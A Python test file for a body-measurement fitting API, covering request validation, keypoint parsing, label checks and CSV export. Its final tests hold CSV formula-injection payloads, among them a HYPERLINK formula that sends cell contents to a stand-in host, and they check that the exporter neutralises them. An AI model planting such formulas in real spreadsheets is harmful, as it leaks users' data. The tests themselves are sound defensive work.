"""Requests and tables on the wire: fits, points, labels, CSV."""

import csv
import io
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import TypeAdapter, ValidationError

from api_schemas.csv_tables import measurements_csv, measurements_csv_of, models_csv
from api_schemas.fit import FitRequest
from api_schemas.labels import LONGEST
from api_schemas.points import (
    AUTO,
    Point,
    Points,
    PointSource,
    named_points,
)
from api_schemas.products.documents import SizeChance
from api_schemas.results import Measurement
from fitter.vocabulary.choices import ViewKind
from fitter.vocabulary.points import COCO_POINT_NAMES
from service.submissions.refusal import RefusedError, field_problems, parsed

POINTS = {"nose": [1.0, 2.0]}
FRONT: dict[str, Any] = {"view": "front", "points": POINTS}
SIDE: dict[str, Any] = {"view": "side", "points": POINTS}


def request(*views: dict[str, Any], **changes: object) -> FitRequest:
    values = {"gender": "female", "height_m": 1.7, "views": views} | changes
    return FitRequest.model_validate_json(json.dumps(values))


def problem(*views: dict[str, Any]) -> tuple[str, str]:
    with pytest.raises(ValidationError) as refused:
        request(*views)
    ((error,), _) = field_problems(refused.value.errors())
    return error.field, error.code


def test_the_least_request_is_a_gender_of_one_picture_whose_points_are_proposed():
    (view,) = FitRequest.model_validate_json('{"gender": "female"}').views
    assert (view.view, view.points, view.are_points_completed) == (None, AUTO, True)


def test_a_fit_has_one_to_six_views():
    other = {"view": "other"}
    for count in (0, 7):
        assert problem(*[other] * count) == ("views", "wrong-length")
    for count in range(1, 7):
        assert len(request(*[other] * count).views) == count


def test_each_of_several_pictures_says_from_where_it_shows_the_person():
    assert problem(FRONT, {"points": POINTS}) == ("views.1.view", "missing")


@pytest.mark.parametrize("kind", list(ViewKind))
def test_people_have_one_front_and_one_back_but_two_sides(kind):
    views = ({"view": "other"}, {"view": kind}, {"view": kind})
    if kind in (ViewKind.FRONT, ViewKind.BACK):
        assert problem(*views) == ("views.2.view", "repeated-view")
    else:
        request(*views)


def test_a_fault_within_a_view_is_told_by_its_place():
    lenses = {"focal_length_px": 900.0, "focal_length_35mm": 26.0}
    assert problem(FRONT, SIDE | lenses) == ("views.1.focal_length_35mm", "two-focal-lengths")
    assert problem(FRONT, SIDE | {"clothing": "none"}) == ("views.1.clothing", "unknown-value")


def test_a_request_is_kept_with_named_points_and_without_whom_to_tell():
    webhook = {"url": "https://example.org/hooks", "secret": None}
    asked = request(FRONT, {"view": "side"}, label="A", webhook=webhook)
    kept = asked.understood([{"nose": Point(x=1.0, y=2.0)}, {}])
    assert FitRequest.model_validate_json(kept.model_dump_json()) == kept
    assert (kept.label, kept.webhook) == ("A", None)
    assert kept.views[0].points == {"nose": Point(x=1.0, y=2.0)}
    assert kept.views[1].points == AUTO


PARSER = TypeAdapter(Points)


def named(value: object):
    return named_points(PARSER.validate_json(json.dumps(value)))


def test_the_three_ways_to_write_a_point_mean_the_same():
    written = {"nose": [3, 4], "left_eye": [3, 4, 2], "right_eye": {"x": 3, "y": 4}}
    assert set(named(written).values()) == {Point(x=3.0, y=4.0)}


def test_coco_keeps_order_and_visibility():
    rows = [[float(i), 50.0, i % 3] for i in range(17)]
    points = named(rows)
    assert points == {
        name: Point(x=float(i), y=50.0, visibility=i % 3)
        for i, name in enumerate(COCO_POINT_NAMES)
        if i % 3
    }


@pytest.mark.parametrize("confidence", [0.3, 0.8])
def test_a_detectors_score_is_kept(confidence):
    for point in named([[0.4, 0.5, confidence]] * 17).values():
        assert (point.source, point.confidence) == (PointSource.PROPOSAL, confidence)
        assert point.visibility == (2 if confidence > 0.5 else 1)


def test_a_score_of_zero_is_no_point():
    assert "nose" not in named([[5.0, 5.0, 0.0 if i == 0 else 0.7] for i in range(17)])


@pytest.mark.parametrize("mark", [-1, 1.5, 3])
def test_rows_have_either_visibility_or_scores(mark):
    with pytest.raises(ValidationError, match="Visibility is 0"):
        named([[5.0, 5.0, mark]] * 17)


@pytest.mark.parametrize("count", [1, 16, 25])
def test_another_number_of_rows_is_refused(count):
    with pytest.raises(ValidationError, match="17"):
        named([[5.0, 5.0, 2]] * count)


def test_coco_without_a_score_in_it_is_visibility():
    rows = [[5.0, 5.0, float(i % 2)] for i in range(17)]
    points = named(rows)
    assert {(point.source, point.visibility) for point in points.values()} == {
        (PointSource.CLICK, 1)
    }


@pytest.mark.parametrize("value", [True, 3, -1, 1.5, "2", None])
def test_another_visibility_is_refused(value):
    with pytest.raises(ValidationError, match="Visibility is 0"):
        PARSER.validate_json(json.dumps({"nose": {"x": 1, "y": 1, "visibility": value}}))


def test_json_has_one_kind_of_number():
    point = PARSER.validate_json('{"nose": {"x": 1, "y": 1, "visibility": 2.0}}')
    assert point == {"nose": Point(x=1.0, y=1.0, visibility=2)}


finite = st.floats(-1e6, 1e6)


@given(st.dictionaries(st.sampled_from(COCO_POINT_NAMES), st.tuples(finite, finite)))
def test_named_points_survive_the_wire(points):
    expected = {name: Point(x=x, y=y) for name, (x, y) in points.items()}
    assert named(points) == expected


def labelled(label: object) -> FitRequest:
    text = json.dumps({"gender": "male", "label": label}).encode()
    return parsed(FitRequest, text, whole="request", called="the part 'request'")


@pytest.mark.parametrize(
    "label",
    [
        "A",
        "customer-4711",
        "O'Brien, Zoë",
        "山田　太郎",
        "علی‌رضا",
        "👩‍🔬",
        "葛\U000e0100城",
        " spaced ",
        "x" * LONGEST,
    ],
)
def test_any_readable_text_is_a_label_and_stays_as_it_was_sent(label):
    assert labelled(label).label == label


def test_a_label_may_be_left_out():
    assert labelled(None).label is None


@pytest.mark.parametrize(
    ("label", "code"),
    [
        ("", "wrong-length"),
        ("x" * (LONGEST + 1), "wrong-length"),
        ("   ", "unreadable-label"),
        ("\u00a0\u3000", "unreadable-label"),
        ("two\nlines", "unreadable-label"),
        ("ends\n", "unreadable-label"),
        ("nul\0", "unreadable-label"),
        ("\u202egnirts", "unreadable-label"),
        ("\u200b", "unreadable-label"),
        ("\u3164", "unreadable-label"),
        ("\u200d", "unreadable-label"),
        ("soft\u00adhyphen", "unreadable-label"),
        ("tag\U000e0001", "unreadable-label"),
        (4711, "wrong-kind"),
    ],
)
def test_what_cannot_be_read_is_refused_by_name(label, code):
    with pytest.raises(RefusedError) as caught:
        labelled(label)
    assert (caught.value.problem.field, caught.value.problem.code) == ("label", code)
    assert caught.value.problem.remedy


def measurement(**changes: object) -> Measurement:
    known = {
        "name": "waist",
        "value": 80.25,
        "unit": "cm",
        "standard_error": 1.5,
        "low": 77.31,
        "high": 83.19,
        "given": False,
        "definition": 'At the navel, "level".\nBreathing out.',
        "source": "ISO 8559-1",
    }
    return Measurement.model_validate(known | changes)


def test_a_line_a_measurement_and_a_column_a_field():
    rows = [measurement(), measurement(name="weight", unit="kg", given=True, standard_error=None)]
    content = measurements_csv(rows)
    assert content.startswith(
        b"name,value,unit,standard_error,low,high,given,definition,source\r\n"
    )
    first, second = csv.DictReader(io.StringIO(content.decode(), newline=""))
    assert (first["value"], first["unit"], first["given"]) == ("80.25", "cm", "false")
    assert first["definition"] == 'At the navel, "level".\nBreathing out.'
    assert (second["unit"], second["given"], second["standard_error"]) == ("kg", "true", "")


def test_a_result_document_may_hold_other_things_besides():
    document = {"kind": "other", "measurements": [json.loads(measurement().model_dump_json())]}
    assert measurements_csv_of(json.dumps(document).encode()) == measurements_csv([measurement()])


def test_no_measurements_leave_the_header():
    assert measurements_csv([]).count(b"\r\n") == 1


def cell(label: str) -> str:
    """What the table has for a label that somebody typed."""
    size = SizeChance(label=label, probability=0.5)
    (row,) = csv.DictReader(io.StringIO(models_csv([size], SizeChance.model_fields).decode()))
    assert row["probability"] == "0.5", "a number stays one"
    return row["label"]


@pytest.mark.parametrize(
    "label",
    [
        '=HYPERLINK("http://example.org/?"&A1,"L")',
        "+1+1",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        " =1+1",
        "\u00a0=1+1",
        "\uff1d1+1",
    ],
)
def test_no_cell_of_what_somebody_typed_is_a_formula(label):
    assert cell(label) == f"'{label}"


@pytest.mark.parametrize("label", ["M", "38-40", "a=b", "XL +", "'s"])
def test_other_labels_stay_as_they_were_typed(label):
    assert cell(label) == label
